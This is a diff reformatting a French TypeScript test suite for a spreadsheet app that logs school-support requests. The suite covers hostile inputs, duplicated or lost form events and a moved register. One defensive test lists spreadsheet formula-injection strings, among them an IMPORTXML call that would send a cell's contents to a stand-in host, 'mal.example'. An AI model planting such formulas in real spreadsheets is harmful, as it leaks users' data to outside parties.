@@ -1,9 +1,23 @@
 // What people and the platform do to us: hostile texts, doubled and empty events, a register moved about.
 import { sheetModel } from '../../local/model/spreadsheet';
-import { userDeleteSheet, userInsertColumn, userRenameSheet, userSort } from '../../local/services/spreadsheet/userEdit';
+import {
+  userDeleteSheet,
+  userInsertColumn,
+  userRenameSheet,
+  userSort,
+} from '../../local/services/spreadsheet/userEdit';
 import { readTab } from '../../local/demo/readTab';
 import type { Workspace } from '../../local/workspace';
-import { adresses, demande, demandes, desReponses, erreurs, formulaireDe, manquements, unPole } from '../support/unPole';
+import {
+  adresses,
+  demande,
+  demandes,
+  desReponses,
+  erreurs,
+  formulaireDe,
+  manquements,
+  unPole,
+} from '../support/unPole';
 
 const FAITS = 'Ce qui se passe';
 const CODE = 'Code de l’élève';
@@ -31,7 +45,7 @@ function formules(pole: Workspace): unknown[] {
 }
 
 describe('des textes hostiles', () => {
-  it.each(['=IMPORTXML("https://mal.example/"&A1,"//a")', '+33 6 00 00 00 00', '@import', "-1+1", "'=1+1"])(
+  it.each(['=IMPORTXML("https://mal.example/"&A1,"//a")', '+33 6 00 00 00 00', '@import', '-1+1', "'=1+1"])(
     '« %s » reste un texte dans le registre',
     (texte) => {
       const pole = unPole(DEBUT);
@@ -152,7 +166,11 @@ describe('des événements qui mentent', () => {
     const pole = unPole(DEBUT);
     const { responseId } = deposer(pole);
     pole.advanceTo('2018-09-18T09:30');
-    pole.submitForm(formulaireDe(pole), desReponses({ [CODE]: 'Hérisson 2', [FAITS]: 'Depuis lundi, tout va mieux.' }), { editOf: responseId });
+    pole.submitForm(
+      formulaireDe(pole),
+      desReponses({ [CODE]: 'Hérisson 2', [FAITS]: 'Depuis lundi, tout va mieux.' }),
+      { editOf: responseId },
+    );
     expect(demandes(pole)).toHaveLength(2);
     expect(demande(pole, '2018-P1-002')[FAITS]).toBe('Depuis lundi, tout va mieux.');
     expect(adresses(pole).filter((mail) => mail.includes('2018-P1-002 mise à jour'))).toHaveLength(1);
@@ -164,7 +182,9 @@ describe('des événements qui mentent', () => {
     const { responseId } = deposer(pole);
     pole.advanceTo('2018-09-18T12:00');
     pole.faults.loseFormTriggers = 1;
-    pole.submitForm(formulaireDe(pole), desReponses({ [CODE]: 'Hérisson 2', [FAITS]: 'Corrigé.' }), { editOf: responseId });
+    pole.submitForm(formulaireDe(pole), desReponses({ [CODE]: 'Hérisson 2', [FAITS]: 'Corrigé.' }), {
+      editOf: responseId,
+    });
     pole.advanceTo('2018-09-19T08:00');
     expect(demande(pole, '2018-P1-002')[FAITS]).toBe('Corrigé.');
   });
@@ -212,7 +232,11 @@ describe('un registre que l’on a déplacé', () => {
     deposer(pole);
     const [premiere, seconde] = readTab(pole, 'Le registre').rows;
     expect(premiere).toMatchObject({ 'Ma colonne': 'à moi', Numéro: '2018-P1-001' });
-    expect(seconde).toMatchObject({ 'Ma colonne': '', Numéro: '2018-P1-002', Établissement: 'École élémentaire des Tilleuls' });
+    expect(seconde).toMatchObject({
+      'Ma colonne': '',
+      Numéro: '2018-P1-002',
+      Établissement: 'École élémentaire des Tilleuls',
+    });
     expect(erreurs(pole)).toEqual([]);
   });
 
@@ -221,7 +245,11 @@ describe('un registre que l’on a déplacé', () => {
     userSort(pole, 'Demandes', 1, false);
     deposer(pole);
     expect(demandes(pole)[0]!['Numéro']).toBe('2018-P1-009');
-    expect(demandes(pole).map((ligne) => ligne['Numéro']).sort()).toHaveLength(10);
+    expect(
+      demandes(pole)
+        .map((ligne) => ligne['Numéro'])
+        .sort(),
+    ).toHaveLength(10);
     expect(manquements(pole)).toEqual([]);
   });
 
@@ -266,7 +294,11 @@ describe('un registre que l’on a déplacé', () => {
     pole.call('menuFaireLaRonde');
     pole.advanceTo('2018-10-09T16:00');
     expect(demandes(pole).map((ligne) => ligne['Numéro'])).toEqual(numeros);
-    expect(adresses(pole).slice(courriels).filter((mail) => mail.includes('bien reçue'))).toEqual([]);
+    expect(
+      adresses(pole)
+        .slice(courriels)
+        .filter((mail) => mail.includes('bien reçue')),
+    ).toEqual([]);
     expect(manquements(pole)).toEqual([]);
   });
 
@@ -284,7 +316,10 @@ describe('un registre que l’on a déplacé', () => {
     const { columns } = readTab(pole, 'Demandes');
     pole.edit('Demandes', `${columns['Notes']}2`, 'Appeler jeudi');
     pole.advanceTo('2018-10-12T08:00');
-    expect(demande(pole, '2018-P1-001')).toMatchObject({ Notes: 'Appeler jeudi', Statut: 'Inscrite à l’ordre du jour' });
+    expect(demande(pole, '2018-P1-001')).toMatchObject({
+      Notes: 'Appeler jeudi',
+      Statut: 'Inscrite à l’ordre du jour',
+    });
   });
 });
 
@@ -304,7 +339,9 @@ describe('l’installation', () => {
     pole.edit('Écoles', 'C5', '');
     pole.call('menuControlerOnglets');
     const { content } = pole.ui.shown[pole.ui.shown.length - 1]!;
-    expect(content).toContain('Onglet « Membres », ligne 3, colonne « Courriel » : « pas une adresse » n’est pas une adresse.');
+    expect(content).toContain(
+      'Onglet « Membres », ligne 3, colonne « Courriel » : « pas une adresse » n’est pas une adresse.',
+    );
     expect(content).toContain('Onglet « Membres », ligne 4, colonne « Absences »');
     expect(content).toContain('Onglet « Écoles », ligne 5, colonne « Adresse officielle » : il manque une adresse.');
   });
